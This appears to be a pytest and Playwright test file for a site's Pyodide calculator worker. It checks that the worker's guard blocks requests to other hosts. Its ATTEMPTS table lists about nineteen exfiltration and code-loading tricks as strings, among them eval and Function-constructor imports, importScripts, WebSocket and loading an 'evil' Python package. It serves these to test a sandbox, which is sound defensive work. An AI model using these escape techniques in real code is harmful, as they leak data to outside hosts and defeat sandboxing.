"""What code in the worker reaches, on a host that sends no content policy: files of the handbook, told nothing."""

import json
import re

import pytest
from playwright.sync_api import expect

from site_assets.build import serve
from site_assets.build.serve import Server
from tests.browser.test_calculator import START

PAGE = "calculators/main-bonding-jumper.html"
SCRIPTS = serve.Path(serve.__file__).parent.parent / "scripts"
# Each asks the other host for something; it counts what it is asked, whether or not the answer may be read.
ATTEMPTS = {
    "fetch": "fetch(there)",
    "fetch without permission to read": "fetch(there, { mode: 'no-cors' })",
    "fetch beneath the one in use": "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch?.call(self, there)",
    "request": "fetch(new Request(there, { method: 'POST', body: 'told', mode: 'no-cors' }))",
    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('GET', there, false); x.send() }",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "events": "new EventSource(there)",
    "script": "importScripts(there)",
    "worker in the worker": "new Worker(there)",
    "shared worker": "new SharedWorker(there)",
    "eval": "(0, eval)('import(there)')",
    "function of text": "new Function('return import(there)')()",
    "constructor of a function": "(() => {}).constructor('return import(there)')()",
    "constructor of an async function": "(async () => {}).constructor('return import(there)')()",
    "timer of text": "setTimeout('import(there)')",
    "python, fetch": "python().runPythonAsync('import js; await js.fetch(js.there)')",
    "python, request": "python().runPythonAsync('import js; await js.fetch(js.Request.new(js.there))')",
    "python, package": "python().loadPackage(there + 'evil-1.0-py3-none-any.whl')",
    "python, text": "python().runPythonAsync('import js; js.eval(\"import(there)\")')",
}
# Python says on the console alone that a package did not come.
TELL_NOTHING = {"python, package"}
# Within the handbook too, only files are brought, and nothing is told.
TOLD = {
    "in the address": "fetch(home + 'index.html?what=typed')",
    "in a body": "fetch(home + 'index.html', { method: 'POST', body: 'typed' })",
    "above the handbook": "fetch(new URL('../other/', home))",
}
# Stands in the worker's own script: the browser's tools would need the `eval` that is taken away.
LISTEN = """
self.python = () => pyodide;
const attempts = { ATTEMPTS };
const asked = new BroadcastChannel("attempts");
asked.onmessage = async ({ data: { name, there, home } }) => {
  Object.assign(self, { there, home });
  try {
    await attempts[name]();
    asked.postMessage({ ended: "done" });
  } catch (error) {
    asked.postMessage({ ended: `refused: ${error}` });
  }
};
"""
ASK = """(question) => new Promise((resolve) => {
  const asking = new BroadcastChannel("attempts");
  asking.onmessage = ({ data }) => resolve(data.ended);
  asking.postMessage(question);
})"""
ALLOWED = "fetch(home + 'index.html')"


@pytest.fixture
def other(tmp_path):
    """Yield a host that is not ours, and has what is asked for."""
    (tmp_path / "index.html").write_text("theirs")
    (tmp_path / "evil.js").write_text("postMessage('theirs')")
    with Server(tmp_path) as server:
        yield server


@pytest.fixture
def page(browser):
    """Yield a page that may complain: what it is asked here is refused."""
    context = browser.new_context(service_workers="block")
    yield context.new_page()
    context.close()


@pytest.fixture
def instead(tmp_path, monkeypatch):
    """Yield scripts by their names that the host has in the place of its own.

    Given by the browser's tools instead, a script would seem to come from far away, and a browser keeps such from this
    machine's other hosts by itself.
    """
    scripts: dict[str, str] = {}
    found = serve.file_in

    def file_in(folder, path):
        name = path.rpartition("/")[2]
        if name not in scripts:
            return found(folder, path)
        file = tmp_path / name
        file.write_text(scripts[name], encoding="utf-8")
        return file

    monkeypatch.setattr(serve, "file_in", file_in)
    return scripts


@pytest.fixture
def attempt(page, site_folder, instead, monkeypatch):
    """Yield a function of the name of an attempt and the other host: how it ended in a worker that has answered.

    The worker comes from a host without headers, with Python within reach.
    """
    monkeypatch.setattr(serve, "policy_page", lambda *_: None)
    coded = {**ATTEMPTS, **TOLD, "a file of the handbook": ALLOWED}
    blocks = (f"{json.dumps(name)}: async () => {{ {waited(code)}; }}" for name, code in coded.items())
    (script,) = site_folder.glob("kit/*/scripts/calculator-worker.js")
    code = script.read_text(encoding="utf-8")
    assert "let pyodide;" in code
    instead[script.name] = code + LISTEN.replace("ATTEMPTS", ",\n".join(blocks))
    with Server(site_folder, "/handbook/") as host:

        def ended(name, there=""):
            if page.url == "about:blank":
                page.goto(f"{host.address}{PAGE}?conductor=3/0")
                expect(page.locator("[data-result] [data-outcome=answer]")).to_be_visible(timeout=START)
            return page.evaluate(ASK, {"name": name, "there": there, "home": host.address})

        yield ended


def waited(code):
    """Return the statement that does an attempt and waits for it."""
    return code if code.startswith("{") else f"await ({code})"


def test_the_worker_reaches_no_other_host_though_no_header_forbids_it(attempt, other):
    for name in ATTEMPTS:
        ended = attempt(name, other.address)
        assert other.requested == [], name
        assert ended.startswith("refused") or name in TELL_NOTHING, (name, ended)


def test_the_worker_tells_nothing_to_its_own_host_either(attempt):
    for name in TOLD:
        assert attempt(name).startswith("refused"), name
    assert attempt("a file of the handbook") == "done"


def test_without_its_own_guard_the_worker_would_reach_the_other_host(attempt, instead, other):
    """The test above can fail: no header, and what is tried does leave the machine."""
    instead["worker-reach.js"] = ""
    attempt("fetch without permission to read", other.address)
    assert other.requested == ["/"]


def test_every_worker_closes_its_doors_before_all_else():
    workers = sorted(SCRIPTS.glob("*-worker.js"))
    assert workers
    for file in workers:
        (first, *_) = re.findall(r"^import .*$", file.read_text(encoding="utf-8"), re.MULTILINE)
        assert first.startswith('import "./worker-reach.js";'), file.name
